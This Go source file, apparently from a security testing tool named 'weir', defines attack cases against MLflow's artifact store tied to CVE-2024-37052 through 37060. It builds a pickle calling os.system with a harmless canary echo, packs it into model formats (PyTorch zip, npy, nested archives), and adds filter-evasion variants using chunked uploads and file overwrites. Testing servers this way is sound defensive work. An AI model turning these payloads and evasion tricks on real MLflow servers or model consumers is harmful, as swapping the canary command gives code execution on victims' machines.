package attack

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"sync"
)

// canaryPickle runs one harmless command when it is loaded: protocol 0, os.system by its real name (Python's pickletools shows it).
const canaryPickle = "cposix\nsystem\n(S'echo weir-canary > written.txt'\ntR."

// canaryText is in every payload of this file, uncompressed.
const canaryText = "weir-canary"

const modelOfSklearn = `artifact_path: model
flavors:
  python_function:
    env: {conda: conda.yaml, virtualenv: python_env.yaml}
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    python_version: 3.10.13
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: pickle
    sklearn_version: 1.3.2
utc_time_created: '2026-01-01 00:00:00.000000'
`

// mlflowUploads bring something into the store that runs code at whoever loads it.
var mlflowUploads = []Attack{
	{
		ID: "mlflow/upload-loaded-by-victim", CVE: []string{"CVE-2024-37052", "CVE-2024-37053"},
		Doc:   "uploads a scikit-learn model whose pickle runs a command, and somebody else loads it",
		Works: []string{"2.9.2", "2.16.2"},
		Steps: []Step{experiment(), newRun(),
			upload("model/MLmodel", []byte(modelOfSklearn)), upload("model/model.pkl", []byte(canaryPickle)),
			{Load: "mlflow-artifacts:/${exp}/${run}/artifacts/model"}},
		Proof: Proof{File: "${canary-file}", Holds: canaryText},
	},
	uploaded("sklearn-pickle", "CVE-2024-37053", "a pickled scikit-learn model", "model/model.pkl", []byte(canaryPickle)),
	uploaded("python-model", "CVE-2024-37054", "a pickled Python model", "model/python_model.pkl", []byte(canaryPickle)),
	uploaded("pmdarima", "CVE-2024-37055", "a pickled pmdarima model", "model/model.pmd", []byte(canaryPickle)),
	uploaded("lightgbm", "CVE-2024-37056", "a pickled LightGBM model", "model/model.pkl", []byte(canaryPickle)),
	uploaded("keras-custom-objects", "CVE-2024-37057", "custom objects of Keras as a pickle", "model/data/custom_objects.cloudpickle", []byte(canaryPickle)),
	uploaded("langchain", "CVE-2024-37058", "a pickled LangChain agent", "model/agent.pkl", []byte(canaryPickle)),
	uploaded("torch-zip", "CVE-2024-37059", "a PyTorch checkpoint whose pickle runs a command", "model/data/model.pth", zipped("model/data.pkl", canaryPickle, "model/version", "3\n")),
	uploaded("recipe-card", "CVE-2024-37060", "a pickled card of a recipe", "steps/train/outputs/card.pkl", []byte(canaryPickle)),
	uploaded("unknown-name", "", "a pickle under a name that no framework uses", "readme.txt", []byte(canaryPickle)),
	uploaded("numpy-objects", "", "a numpy array of objects", "data/array.npy", append(numpyHead(), canaryPickle...)),
	{
		ID: "mlflow/upload-form", CVE: []string{"CVE-2024-37053"}, Doc: "uploads a pickle by the interface's own route", Works: []string{"2.9.2", "2.16.2", "new"},
		Steps: []Step{experiment(), newRun(),
			{Request: "POST " + ajax2 + "/upload-artifact?run_uuid=${run}&path=model%2Fmodel.pkl\nContent-Type: application/octet-stream", Body: []byte(canaryPickle)}},
		Proof: Proof{Probe: probe("GET " + files + "/${exp}/${run}/artifacts/model/model.pkl"), Shows: canaryText},
	},
	{
		ID: "mlflow/upload-ajax", CVE: []string{"CVE-2024-37053"}, Doc: "uploads a pickle by the store's other address", Works: []string{"2.9.2", "2.16.2", "new"},
		Steps: []Step{experiment(), newRun(), put("/ajax-api/2.0/mlflow-artifacts/artifacts/${exp}/${run}/artifacts/model/model.pkl", []byte(canaryPickle))},
		Proof: Proof{Probe: probe("GET " + files + "/${exp}/${run}/artifacts/model/model.pkl"), Shows: canaryText},
	},
	{
		ID: "mlflow/upload-chunked", CVE: []string{"CVE-2024-37053"}, Doc: "uploads a pickle in chunks that split what a filter would look for", Works: []string{"2.9.2", "2.16.2", "new"},
		Steps: []Step{experiment(), newRun(), {
			Request: "PUT " + files + "/${exp}/${run}/artifacts/model/model.pkl\nTransfer-Encoding: chunked", Body: chunked(canaryPickle)}},
		Proof: Proof{Probe: probe("GET " + files + "/${exp}/${run}/artifacts/model/model.pkl"), Shows: canaryText},
	},
	{
		ID: "mlflow/upload-in-halves", CVE: []string{"CVE-2024-37053"}, Doc: "uploads a harmless file and then overwrites it with a pickle", Works: []string{"2.9.2", "2.16.2", "new"},
		Steps: []Step{experiment(), newRun(), upload("model/model.pkl", []byte("cbuiltins\nobject\n.")), upload("model/model.pkl", []byte(canaryPickle))},
		Proof: Proof{Probe: probe("GET " + files + "/${exp}/${run}/artifacts/model/model.pkl"), Shows: canaryText},
	},
}

// uploadedArchive is made when it is asked for: a compressor takes a megabyte, which each start of weir would pay, whatever it is started for.
var uploadedArchive = sync.OnceValue(func() *Attack {
	bundle := zipped("inner.tar.gz", string(tarred("model.pkl", canaryPickle)), "note.txt", canaryText)
	a := uploaded("tar-gzip", "", "a pickle in a compressed archive in an archive", "data/bundle.zip", bundle)
	return &a
})

func upload(path string, body []byte) Step {
	return put(files+"/${exp}/${run}/artifacts/"+path, body)
}

// uploaded makes the attack of one payload: it works when the server hands it out afterwards.
func uploaded(id, cve, what, path string, body []byte) Attack {
	a := Attack{ID: "mlflow/upload-" + id, Doc: "uploads " + what, Works: []string{"2.9.2", "2.16.2", "new"},
		Steps: []Step{experiment(), newRun(), upload(path, body)},
		Proof: Proof{Probe: probe("GET " + files + "/${exp}/${run}/artifacts/" + path), Shows: canaryText}}
	if cve != "" {
		a.CVE = []string{cve}
	}
	return a
}

// zipped stores names and contents in pairs, uncompressed, as PyTorch does.
func zipped(pairs ...string) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i := 0; i+1 < len(pairs); i += 2 {
		h := &zip.FileHeader{Name: pairs[i], Method: zip.Store, CRC32: crc32.ChecksumIEEE([]byte(pairs[i+1]))}
		h.CompressedSize64, h.UncompressedSize64 = uint64(len(pairs[i+1])), uint64(len(pairs[i+1]))
		if f, err := w.CreateRaw(h); err == nil {
			f.Write([]byte(pairs[i+1]))
		}
	}
	w.Close()
	return b.Bytes()
}

func tarred(name, content string) []byte {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	w.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(content))})
	w.Write([]byte(content))
	w.Close()
	z.Close()
	return b.Bytes()
}

// numpyHead is the head of a version 1 npy file with one object: a pickle follows (numpy.lib.format).
func numpyHead() []byte {
	dict := "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
	for (10+len(dict)+1)%64 != 0 {
		dict += " "
	}
	dict += "\n"
	head := []byte("\x93NUMPY\x01\x00")
	head = binary.LittleEndian.AppendUint16(head, uint16(len(dict)))
	return append(head, dict...)
}

func chunked(s string) []byte {
	var b bytes.Buffer
	for i := 0; i < len(s); i += 3 {
		part := s[i:min(i+3, len(s))]
		fmt.Fprintf(&b, "%x\r\n%s\r\n", len(part), part)
	}
	b.WriteString("0\r\n\r\n")
	return b.Bytes()
}
